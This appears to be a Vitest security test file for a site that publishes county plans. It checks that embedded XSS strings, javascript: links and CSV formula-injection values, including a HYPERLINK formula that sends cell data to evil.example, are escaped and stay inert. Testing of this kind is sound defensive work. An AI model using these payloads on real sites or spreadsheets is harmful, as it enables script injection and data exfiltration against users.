import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, inject, it } from 'vitest'
import { listFiles } from '../../scripts/list-files.ts'
import { openSite } from './setup/open-site.ts'
import { readCsv } from './setup/read-csv.ts'
import { pagesOf } from './setup/site-files.ts'

const built = inject('hostile')
const site = openSite(built)
const pages = pagesOf(built)
const files = listFiles(built.folder)
const read = (file: string) => readFileSync(join(built.folder, file), 'utf8')

describe('markup in a plan', () => {
	it('stops no pinned copy with the words of the page itself, and stays as it is there', () => {
		const pinned = files.filter(file => /^pinned\/[^/]+\/embed\/quxian\/index\.html$/.test(file)).map(read)
		expect(
			pinned.map(html => [
				html.match(/<p data-version>/g)?.length,
				html.includes('查看完整页面&lt;/a&gt;&lt;p data-version&gt;数据版本'),
				html.includes('/_astro/evil.js'),
			]),
		).toEqual([[1, true, true]])
	})

	it('is shown as the text that it is', () => {
		const plan = pages.find(page => page.path === '/quxian/')
		const source = pages.find(page => page.path === '/quxian/quxian-2023/source/')
		expect(plan?.text).toContain('<script>window.hacked=1</script>')
		expect(plan?.text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")开展科普活动')
		expect(plan?.text).toContain('&lt;b&gt;&#60;b&#62;')
		expect(source?.text).toContain('"><img src=x onerror=window.hacked=1>')
		expect(source?.text).toContain('<!--科技馆-->')
		expect(source?.text).toContain(']]>')
	})

	it('becomes no element, no handler, no script and no link of its own', () => {
		expect(pages.flatMap(page => page.inlineAttributes.map(name => `${page.path} ${name}`))).toEqual([])
		expect(pages.flatMap(page => page.inlineScripts)).toEqual([])
		const links = pages.flatMap(page => page.links.map(({ href }) => href))
		expect(links.filter(href => /^\s*javascript:|evil\.example/i.test(href))).toEqual([])
		// The site knows its address, so that a page shows one picture: its own QR code.
		expect(pages.flatMap(page => page.links.filter(({ from, href }) => from === 'img[src]' && !/^\/[a-z0-9./-]+\.qr\.svg$/.test(href)))).toEqual([])
	})

	it('ends no JSON-LD element, and the data is what the plan says', () => {
		const data = pages.flatMap(page => page.jsonLd)
		expect(data.filter(text => /[<>&\u2028\u2029]/.test(text))).toEqual([])
		expect(data.map(text => JSON.parse(text)['@context']).every(context => String(context).startsWith('https://schema.org'))).toBe(true)
		expect(data.some(text => JSON.stringify(JSON.parse(text)).includes('window.hacked'))).toBe(true)
	})

	it('is no formula in a table to download', () => {
		const tables = files.filter(file => file.endsWith('.csv'))
		const cells = tables.flatMap(file => readCsv(read(file)).flat())
		expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
		for (const formula of ["'=HYPERLINK(", "'=cmd|", "'=1+2局", "'+1+1办公室", "'@SUM(1)局"])
			expect([formula, cells.some(cell => cell.startsWith(formula))]).toEqual([formula, true])
	})

	it('stops no file, whatever control signs and words of this site stand in it, also of a plan without tasks, issuer and date', () => {
		const formats = ['index.html', 'akn.xml', 'docx', 'xlsx', 'csv', 'json', 'offline.html']
		const expected = ['yanbianxian', 'renhe'].flatMap(place => formats.map(format => (format === 'index.html' ? `${place}/index.html` : `${place}.${format}`)))
		expect(expected.filter(file => !files.includes(file))).toEqual([])
		expect(pages.find(({ path }) => path === '/yanbianxian/')?.text).toContain('在“责任”网站查看完整页面')
		expect(files.filter(file => file.endsWith('.xml') && /(?![\t\n\r])\p{Cc}|\ufffe/u.test(read(file)))).toEqual([])
	})

	it('stays whole in the open data', () => {
		const plan = JSON.parse(read('data/plans/quxian-2023.json'))
		const printed = plan.tasks.flatMap((task: { assignments: { printed: string }[] }) => task.assignments.map(({ printed }) => printed))
		expect(printed).toContain('=1+2局')
		expect(plan.tasks[1].text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")')
		expect(printed).toContain('县教育局</script><script>window.hacked=1</script>')
	})

	it('does nothing in a browser, on any page', async () => {
		const page = await site.openPage('/')
		const dialogs: string[] = []
		page.on('dialog', dialog => {
			dialogs.push(dialog.message())
			return dialog.dismiss()
		})
		for (const { path } of pages) {
			await page.goto(site.address(path))
			expect([path, await page.evaluate(() => 'hacked' in window)]).toEqual([path, false])
		}
		expect(dialogs).toEqual([])
		expect(site.foreignRequests).toEqual([])
	}, 180_000)

	it('does nothing when it is searched for and found', async () => {
		for (const query of ['<script>window.hacked=1</script>', '弘扬科学精神', '"><img src=x onerror=window.hacked=1>', 'HYPERLINK']) {
			const page = await site.openPage(`/search/?q=${encodeURIComponent(query)}`)
			await page.getByRole('status').filter({ hasText: /\S/ }).waitFor()
			expect([query, await page.evaluate(() => 'hacked' in window)]).toEqual([query, false])
			expect(await page.locator('[data-search]').locator('img, script, iframe').count()).toBe(0)
		}
	})
})

describe('what people write beside a document', () => {
	it('is shown as text, marked as theirs; its address is a link that carries nothing else', () => {
		const plan = pages.find(page => page.path === '/quxian/')
		expect(plan?.text).toContain('见 <a href="javascript:window.hacked=1">附件</a>')
		expect(plan?.text).toContain('〔据编者补充，由渠县科协"><img src=x onerror=window.hacked=1>认定〕')
		const address = plan?.links.map(({ href }) => href).find(href => href.startsWith('https://www.example.gov.cn/a'))
		expect(address).toBe('https://www.example.gov.cn/a?b=%22%3E%3Cscript%3Ewindow.hacked=1%3C/script%3E')
	})

	it('does not replace what the document prints', () => {
		const { issuedOn, sidecar } = JSON.parse(read('data/plans/quxian-2023.json'))
		expect(issuedOn).toBe('2023-12-01')
		expect(sidecar.states).toEqual(['documentNumber', 'disclosure'])
	})
})

describe('what is not published', () => {
	it('is listed with what to do', () => {
		const quality = pages.find(page => page.path === '/quality/')
		expect(quality?.text).toContain('empty & broken.txt')
		expect(quality?.text).toContain('这份文件标有密级或份号，没有公布')
	})

	it('leaves no word in any file, nor its name; a sidecar does not lift a mark of secrecy', () => {
		expect(files.filter(file => /朱雀|zhuque|secret\.(?:txt|plan)/.test(readFileSync(join(built.folder, file)).toString('utf8')))).toEqual([])
		expect(files.filter(file => /secret|zhuque|dazhou/.test(file))).toEqual([])
	})
})
